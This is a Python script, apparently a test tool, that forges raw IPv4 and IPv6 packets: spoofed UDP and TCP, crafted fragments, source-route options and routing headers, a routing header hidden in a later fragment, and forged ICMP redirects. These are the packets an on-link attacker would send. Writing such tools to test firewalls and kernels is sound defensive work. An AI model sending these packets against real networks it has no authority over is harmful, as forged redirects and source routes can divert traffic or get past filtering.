#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Packets that no honest host sends, byte by byte: what an attacker on a link, a peer or a container would send.

forge.py DEVICE MAC KIND …   MAC is the receiver's, or - on a device without a link layer."""

import argparse
import socket
import struct

UDP, TCP, ICMP, ICMPV6, FRAGMENT, ROUTING, OPTIONS = 17, 6, 1, 58, 44, 43, 60


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packed(address):
    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)


def pseudo(source, target, protocol, length):
    if len(source) == 4:
        return source + target + struct.pack("!BBH", 0, protocol, length)
    return source + target + struct.pack("!IBBBB", length, 0, 0, 0, protocol)


def udp_segment(source, target, sport, dport, text):
    head = struct.pack("!HHHH", sport, dport, 8 + len(text), 0)
    total = checksum(pseudo(source, target, UDP, 8 + len(text)) + head + text) or 0xFFFF
    return head[:6] + struct.pack("!H", total) + text


def tcp_segment(source, target, sport, dport, flags):
    head = struct.pack("!HHIIBBHHH", sport, dport, 1000, 1000, 0x50, flags, 1024, 0, 0)
    total = checksum(pseudo(source, target, TCP, 20) + head)
    return head[:16] + struct.pack("!H", total) + head[18:]


def ipv4(source, target, protocol, payload, ident=0, offset=0, more=0, options=b"", ttl=64):
    words = 5 + len(options) // 4
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x40 | words, 0, 4 * words + len(payload), ident, more << 13 | offset // 8, ttl,
        protocol, 0, source, target) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def ipv6(source, target, protocol, payload, hops=64):
    return struct.pack("!IHBB", 6 << 28, len(payload), protocol, hops) + source + target + payload


def packet(source, target, protocol, payload, **more):
    return (ipv4 if len(source) == 4 else ipv6)(source, target, protocol, payload, **more)


def send(options, datagram):
    version = datagram[0] >> 4
    kind = 0x0800 if version == 4 else 0x86DD
    link = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(kind))
    mac = b"\0" * 6 if options.mac == "-" else bytes.fromhex(options.mac.replace(":", ""))
    link.sendto(datagram, (options.device, kind, 0, 0, mac))


def make_udp(options):
    source, target = packed(options.source), packed(options.target)
    send(options, packet(source, target, UDP, udp_segment(
        source, target, options.sport, options.port, options.text.encode())))


def make_tcp(options):
    source, target = packed(options.source), packed(options.target)
    send(options, packet(source, target, TCP, tcp_segment(source, target, options.sport, options.port, options.flags)))


def make_fragment(options):
    """The first or the last part of a UDP datagram whose text is 32 bytes of --text, then 32 of --other."""
    source, target = packed(options.source), packed(options.target)
    text = options.text.encode().ljust(32, b".") + options.other.encode().ljust(32, b".")
    whole = udp_segment(source, target, options.sport, options.port, text)
    first = options.part == "first"
    part, offset = (whole[:40], 0) if first else (whole[40:], 40)
    if len(source) == 4:
        send(options, ipv4(source, target, UDP, part, ident=options.ident, offset=offset, more=int(first)))
    else:
        head = struct.pack("!BBHI", UDP, 0, offset | int(first), options.ident)
        send(options, ipv6(source, target, FRAGMENT, head + part))


def make_source_route(options):
    """UDP to TARGET, with VIA as the next hop: an IPv4 option, of which --used addresses were taken before, behind --pad bytes of
    no operation; or an IPv6 routing header of type 4."""
    source, target, via = packed(options.source), packed(options.target), packed(options.via)
    segment = udp_segment(source, via, options.sport, options.port, options.text.encode())
    if len(source) == 4:
        used = packed("203.0.113.77") * options.used
        route = b"\1" * options.pad + bytes([131 if options.loose else 137, 7 + len(used), 4 + len(used)]) + used + via
        send(options, ipv4(source, target, UDP, segment, options=route + b"\0" * (-len(route) % 4)))
    else:
        head = bytes([UDP, 2, 4, 1, 0, 0, 0, 0]) + via
        send(options, ipv6(source, target, ROUTING, head + segment))


def make_hidden_route(options):
    """UDP over IPv6 in two fragments; in the second one are a routing header whose addresses are all used, and the segment."""
    source, target = packed(options.source), packed(options.target)
    first = bytes([ROUTING, 0, 1, 4, 0, 0, 0, 0])
    second = bytes([UDP, 2, 0, 0, 0, 0, 0, 0]) + target + udp_segment(
        source, target, options.sport, options.port, options.text.encode())
    for offset, more, part in ((0, 1, first), (8, 0, second)):
        head = struct.pack("!BBHI", OPTIONS, 0, offset | more, options.ident)
        send(options, ipv6(source, target, FRAGMENT, head + part))


def make_redirect(options):
    """Tells TARGET that its echo reply to REMOTE, of the identifier --port, must be sent via GATEWAY: Linux takes redirects of its
    own answers without asking for a socket."""
    source, target, gateway, remote = (packed(a) for a in (options.source, options.target, options.gateway, options.remote))
    if len(source) == 4:
        echo = struct.pack("!BBHHH", 0, 0, 0, options.port, 1)
        inner = ipv4(target, remote, ICMP, echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:])
        body = struct.pack("!BBH4s", 5, 1, 0, gateway) + inner
        send(options, ipv4(source, target, ICMP, body[:2] + struct.pack("!H", checksum(body)) + body[4:]))
    else:
        body = struct.pack("!BBHI", 137, 0, 0, 0) + gateway + remote
        body = body[:2] + struct.pack("!H", checksum(pseudo(source, target, ICMPV6, len(body)) + body)) + body[4:]
        send(options, ipv6(source, target, ICMPV6, body, hops=255))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("device")
    parser.add_argument("mac")
    kinds = parser.add_subparsers(required=True)

    def kind(name, make, *names):
        sub = kinds.add_parser(name)
        sub.set_defaults(make=make)
        for word in ("source", "target") + names:
            sub.add_argument(word)
        sub.add_argument("--sport", type=int, default=40000)
        sub.add_argument("--port", type=int, default=5005)
        sub.add_argument("--text", default="forged")
        return sub

    kind("udp", make_udp)
    kind("tcp", make_tcp).add_argument("--flags", type=int, default=2)
    sub = kind("fragment", make_fragment)
    sub.add_argument("--part", choices=("first", "last"), required=True)
    sub.add_argument("--other", default="")
    sub.add_argument("--ident", type=int, default=777)
    kind("hidden-route", make_hidden_route).add_argument("--ident", type=int, default=778)
    sub = kind("source-route", make_source_route, "via")
    sub.add_argument("--loose", action="store_true")
    sub.add_argument("--used", type=int, default=0)
    sub.add_argument("--pad", type=int, default=0)
    kind("redirect", make_redirect, "gateway", "remote")
    options = parser.parse_args()
    options.make(options)


main()
